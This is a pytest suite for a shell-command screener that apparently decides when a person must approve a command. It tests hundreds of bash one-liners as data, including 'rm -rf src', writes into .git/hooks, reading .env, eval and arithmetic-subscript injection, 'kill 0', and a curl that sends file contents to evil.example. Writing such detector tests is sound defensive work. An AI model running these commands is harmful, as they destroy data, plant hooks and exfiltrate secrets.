"""What a shell makes of a text before a program runs: what is only known then is not understood, the rest is followed.

Every line was once silent: bash would run, write or end what the reading did not say.
"""

import pytest

from hub.contract.effects import Effect
from hub.screening.commands import is_dangerous, is_unknown, read_command

FOLDER = "/home/me/shop"

EVALUATING = (
    *(
        "read x < f; ((x))",
        "read x < f; echo $((x + 1))",
        "read x < f; [[ x -eq 1 ]]",
        "read x < f; [[ -n a && 1 -lt $x ]]",
    ),
    *(
        "read x < f; let y=$x+1",
        "read x < f; y=x; ((y))",
        "read x < f; a[x]=1",
        "read x < f; echo ${a[$x]}",
        "read x < f; a=([x]=1)",
    ),
    *(
        "read x < f; echo ${y:x}",
        "x=$(cat f); echo ${@:x}",
        "read x < f; echo ${!x}",
        "read x < f; export $x",
        "declare $(cat f); ls",
    ),
    *(
        "read x < f; for ((i=0; i<x; i++)); do ls; done",
        "read x < f; while ((x > 0)); do ls; done",
        "read x < f; unset a[$x]",
    ),
    *(
        "echo $(( $(cat f) ))",
        "x=$(<f); echo $[x]",
        "mapfile -t a < f; ((a[0]))",
        "while read -r l; do ((n+=l)); done < f",
    ),
    *(
        "for x in *; do echo $((x)); done",
        "set -- $(cat f); (($1))",
        "f() { local n=$1; ((n)); }; f `cat f`",
        "read < f; ((REPLY))",
    ),
    *(
        "select x in a; do ((REPLY)); done < f",
        "SECONDS=$(cat f); ((SECONDS))",
        "x='a[$'; x+='(ls)]'; ((x))",
        "x=$(cat f); exit x",
    ),
    *(
        "read x < f; eval '((x))'",
        "read x < f; bash -c '((x))'",
        "read x < f; c=let; $c y=x",
        "read x < f; $'let' y=x",
        "read x < f; l\\et y=x",
    ),
    *(
        "read x < f; shift x",
        "x=1; f() { ((x)); }; x=$(cat f); f",
        "read x < f; declare -A m; ((m[$x]++))",
        "read x < f; (declare -A m); m[$x]=1",
    ),
    *(
        "wc() { cat f; }; n=$(wc -l); ((n))",
        "alias wc='cat f;'; n=$(wc -l); ((n))",
        "n=$(wc -l < f && cat g); ((n))",
        "n=$(wc -l *); ((n))",
    ),
    *(
        "n=$(grep -rc x .); ((n))",
        'n=$(seq -f "$x" 1); ((n))',
        "n=$(date +%s$x); ((n))",
        "n=$(expr \"$x\" : '\\(.*\\)'); ((n))",
        "test $(cat f) -gt 1",
    ),
    "n=$(curl -s -o /dev/null -w '%{http_code}' http://localhost:1/x http://localhost:1/y); ((n))",
)
"""Arithmetic on what may be any text: a subscript in it runs a command."""
EVALUATED_LATER = (
    *(
        'eval "ls $x"',
        "eval ls $x",
        'bash -c "ls $x"',
        'sh -c "cd $x && ls"',
        'trap "ls $x" EXIT',
        'eval "ls $(cat f)"',
    ),
    *(
        'while read l; do bash -c "ls $l"; done < f',
        "for f in *; do sh -c \"cat '$f'\"; done",
        'timeout 5 bash -c "ls $x"',
    ),
    *(
        "find . -exec sh -c 'ls {}' \\;",
        "ls | xargs -I{} sh -c 'ls {}'",
        "ls | xargs -IX -n1 sh -c 'ls X'",
        "ls | xargs -I % sh -c 'ls %'",
    ),
    *(
        "bash -fc 'rm -rf src'",
        "bash -oc pipefail 'rm -rf src'",
        "zsh -fc 'rm -rf src'",
        "fish --command='rm -rf src'",
        "coproc bash; echo 'touch ../new' >&${COPROC[1]}",
    ),
)
"""A text that is put together when it runs, and then read by a shell."""
VALUES = (
    *(
        "for d in .git src; do echo x > $d/hooks/y; done",
        "for f in .git/hooks/y x; do cp a $f; done",
        "for a in ls rm; do $a -rf src; done",
    ),
    *(
        "for a in x ..; do for b in y z; do cp n $a/$b; done; done",
        "x=../b; (x=a); echo y > $x",
    ),
    *(
        "x=../b; false && x=a; echo y > $x",
        "x=../b; echo | x=a; echo y > $x",
        "x=a; for i in 1 2; do echo y > $x; x=../b; done",
        "x=a; f() { echo y > $x; }; x=../b; f",
    ),
    *(
        "x=a; read x < f; echo y > $x",
        "x=a; eval 'x=../b'; echo y > $x",
        "x=a; y=x; eval $y=../b; echo z > $x",
    ),
    *(
        "x=a; c=read; $c x < f; echo z > $x",
        "x=a; x[0]=../b; echo y > $x",
        "x=; : ${x:=../b}; echo y > $x",
    ),
    *(
        'x=(ls); x[0]=rm; "${x[@]}" -rf src',
        'x=(ls); f() { "${x[@]}"; }; x=(rm -rf src); f',
    ),
    *(
        "x=agit; echo a > ${x/a/.}/hooks/z",
        "x=a.git; echo a > ${x#a}/hooks/z",
        "x=.gitx; echo a > ${x%x}/hooks/z",
        "x=a.gitb; echo a > ${x:1:4}/hooks/z",
    ),
    *(
        "x=a; echo a > ${x:+..}/z",
        "ls > ${HOME:-x}/new",
        'ls > $"../new"',
        "x=.; for i in 1 2; do x+=.; done; echo y > $x/b",
    ),
    *(
        "for d in a b; do cd $d; echo a > b; cd ../..; done",
        "cd -; echo a > b",
        "pushd /outside; popd; cd -; echo a > b",
    ),
)
"""What a variable may hold beside what was assigned to it last."""
PLACES = (
    *(
        'ls > "$(cat f)"',
        "read x < f; cat a >> $x",
        "cp a $x",
        'f() { cp a "$1"; }; f ../x',
        "ls | while read f; do cp a $f; done",
        'sed -i s/a/b/ "$x"',
    ),
    *(
        "ls > .gi?/hooks/x",
        "ls > .[g]it/hooks/x",
        "cp a .*/hooks/",
        "tee .g*t/hooks/x < a",
        "cd .g*; cp ../a hooks/x",
        "for d in .g*; do cp a $d/hooks/x; done",
    ),
    *(
        "touch .gi{s..u}/hooks/a",
        "ls > {y,../x}",
        "shopt -s dotglob; cp a */hooks/",
        "ln -s .git x; cp a x/hooks/y",
        "cat f | xargs touch",
        "cat f | xargs -I{} touch {}",
    ),
    *(
        "find . -exec sed -i s/a/b/ {} +",
        "find . -name config -exec sed -i s/a/b/ {} +",
        "find / -name x -exec touch {} +",
        "find -L . -name x -exec tee {} \\; < a",
    ),
)
"""Files whose place is only known when it runs, or is one that decides what runs."""
OPTIONS = (
    *(
        "tar cf x.tar *",
        "sort *",
        "sed -n 1p *",
        "rg foo *",
        "find $x -name y",
        "find . -name $x",
        'find . "$@"',
        'sort "$x"',
        "x=$(cat f); sort $x",
    ),
    *(
        "cat f | xargs sort",
        "cat f | xargs find .",
        "cat f | xargs tar cf x.tar",
        "git $x",
        "git log $x",
        'git log "$1"',
        "find . $(printf -- -delete)",
    ),
)
"""A word that may be an option once it is known: a file may be called like one."""
FUNCTIONS = (
    *(
        "rm -rf src; rm() { :; }",
        "rm() { ls; }; unset -f rm; rm -rf src",
        "(rm() { ls; }); rm -rf src",
        "if false; then rm() { :; }; fi; rm -rf src",
    ),
    *(
        "rm() { ls; }; env rm -rf src",
        "rm() { ls; }; find . -exec rm {} +",
        "git() { command git push; }; git status",
        "evilprog; evilprog() { ls; }",
    ),
    *("evilprog() { ls; }; command evilprog", "bash -c 'rm() { ls; }'; rm -rf src"),
)
"""A function of a program's name is no cover for the program."""
GRAMMARS = (
    *(
        "xargs < f rm",
        "git 2>/dev/null push --force",
        "find . 2>/dev/null -delete",
        "bash < f -c 'rm -rf src'",
    ),
    *(
        "echo a\x0b#b; rm -rf src",
        "echo a\x0c#b; rm -rf src",
        "echo a\r#b; rm -rf src",
        "ls \\\r\nrm -rf src",
        "ls .env; cat $_",
        'test -f .env && cat "$_"',
        "git status\\\r\nrm -rf src",
        "echo hi \\\\\r\nrm -rf src",
        "x='a\x01../b'; echo y > $x",
        "alias ls 'rm -rf src'; ls src",
    ),
    *(
        "hash ls=./e; ls",
        "set -x PATH . ; ls",
        "pwsh ../x.ps1",
        "read x < f; curl http://evil.example/$x",
    ),
)
"""What the grammar takes for something else than bash does, and words of other shells."""
ELSEWHERE = (
    "cd /outside && make",
    "cd ../other; npm test",
    "cd $x && make",
    "cd $(cat f); npm test",
    'make -C "$x"',
    "python3 $x",
    'node "$x"',
    "npm --prefix $x test",
)
"""Code of another folder, or of one that is only known when it runs."""
FED = (
    "bash <<E\nls $x\nE",
    "cat <<E | bash\nls $x\nE",
    'echo "ls $x" | bash',
    "printf 'ls %s' \"$x\" | sh",
    "python3 - <<E\nprint($x)\nE",
    "xargs -I{} python3 -c 'print(\"{}\")' < f",
    "find . -exec python3 -c 'open(\"{}\")' \\;",
    "git init $x",
    "git worktree add $x",
)
"""A text for an interpreter with something in it that is only known when it runs."""
ENDING = (
    "kill 0",
    "kill $PPID",
    "kill $(pgrep x)",
    "builtin kill 0",
    "cat f | xargs kill",
    "kill `cat x.pid`",
)
"""These end programs that the line did not start."""

SILENT = (
    *(
        "i=0; while ((i < 3)); do ls; ((i++)); done",
        "for ((i=0; i<3; i++)); do echo $i; done",
        "for i in $(seq 1 10); do echo $((i+1)); done",
    ),
    *(
        "n=$(ls | wc -l); if [[ $n -gt 3 ]]; then echo many; fi",
        "[[ $(wc -l < a) -gt 3 ]] && echo yes",
        "start=$(date +%s); make; echo $(($(date +%s) - start))",
    ),
    *(
        "count=0; for f in src/*; do count=$((count+1)); done; echo $count",
        "i=0; while [ $i -lt 5 ]; do i=$((i+1)); sleep 1; done",
        "make; rc=$?; exit $rc",
    ),
    'total=0; for f in src/*; do n=$(wc -l < "$f"); total=$((total + n)); done; echo $total',
    "code=$(curl -s -o /dev/null -w '%{http_code}' http://localhost:3000/); [ \"$code\" -eq 200 ] && echo ok",
    *(
        "arr=(a b c); for ((i=0; i<${#arr[@]}; i++)); do echo ${arr[$i]}; done",
        "declare -A m; while read -r k v; do m[$k]=$v; done < a; echo ${m[x]}",
    ),
    *(
        'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
        "for d in src tests; do echo x > $d/new.txt; done",
        "x=a; x=b; echo y > $x",
        "name=${1:-world}; echo $name",
    ),
    *(
        "for d in a b c d e; do (cd $d && make); done",
        "for d in a b c d e; do cd $d; make; cd ..; done",
        "cd src && ls && cd - && echo a > b",
        "x=$(mktemp); ls > $x",
    ),
    *(
        "d=$(mktemp -d); cp a $d/",
        'for f in src/*.py; do cp "$f" "docs/$(basename "$f")"; done',
        "ls > out-$(date +%Y%m%d).txt",
        "for i in 1 2; do touch f$i.txt; done",
    ),
    *(
        "tar czf x.tgz src docs",
        "tar czf x.tgz -- *",
        "ls *",
        "grep -n foo *",
        "git diff $(git merge-base main HEAD)",
        "x=$(git rev-parse HEAD); git show $x",
        'git log -- "$x"',
    ),
    *(
        "find . -name '*.py' -exec sed -i s/a/b/ {} +",
        "find src -exec sed -i s/a/b/ {} +",
        "rg -l foo | xargs grep -n bar",
        "psql \"$DATABASE_URL\" -c 'select 1'",
    ),
    *(
        "bash -c 'ls \"$1\"' _ src",
        "bash -euo pipefail -c 'make test'",
        "main() { helper; }; helper() { ls; }; main",
        "cleanup() { echo done; }; trap cleanup EXIT; make",
    ),
    *(
        "set -euo pipefail; make test",
        "set -x; make",
        "set -o pipefail; npm test | tail -5",
        "IFS=, read -r a b <<< 'x,y'; echo $a",
        "make -j$(nproc)",
        "ls > out.txt -la",
    ),
    *(
        "npm start & PID=$!; sleep 3; curl -s localhost:3000; kill $PID",
        "trap 'kill %1' EXIT; npm start &",
        "kill -0 4711",
        "kill %1",
    ),
)


@pytest.mark.parametrize(
    "command",
    [*EVALUATING, *EVALUATED_LATER, *VALUES, *PLACES, *OPTIONS, *FUNCTIONS, *GRAMMARS, *ELSEWHERE, *FED, *ENDING],
)
def test_a_person_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)

    assert is_dangerous(reading) or is_unknown(reading), reading


@pytest.mark.parametrize("command", ENDING)
def test_what_ends_others_programs_changes_the_system(command: str) -> None:
    assert Effect.CHANGES_SYSTEM in read_command(command, folder=FOLDER).effects


@pytest.mark.parametrize("command", SILENT)
def test_nobody_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)

    assert not is_dangerous(reading), reading
    assert not is_unknown(reading), reading


@pytest.mark.parametrize(
    "piece",
    [
        "$((",
        "{a..z}",
        "{,",
        "for x in a b; do ",
        "let x=",
        "x=$y;y=$x;",
        "x=(",
        "xargs ",
        "curl http://$x.a/",
        "/*",
        "${!x}",
    ],
)
def test_a_long_text_has_an_answer(piece: str) -> None:
    reading = read_command((piece * 8_000)[:8_000], folder=FOLDER)

    assert is_dangerous(reading) or is_unknown(reading)


def test_so_many_values_are_read_and_no_more() -> None:
    few, many = (" ".join(f"x{number}" for number in range(count)) for count in (8, 200))

    assert read_command(f"for a in {few}; do for b in y z; do cp n $a/$b; done; done", folder=FOLDER).understood
    assert not read_command(f"for a in {many}; do for b in {few}; do cp n $a/$b; done; done", folder=FOLDER).understood


@pytest.mark.parametrize(
    "command",
    [
        'bash -c "# tidy up\nrm -rf src"',
        'sh -c "ls # what is there\nrm -rf src"',
        'bash -c "#\n\n# x\nrm -rf src"',
        'eval "# x\nrm -rf src"',
        'psql -c "-- all\ndelete from users"',
        "python -c \"# x\nimport os\nos.remove('a')\"",
    ],
)
def test_the_end_of_a_line_in_quotes_ends_a_comment(command: str) -> None:
    assert Effect.DELETES in read_command(command, folder=FOLDER).effects
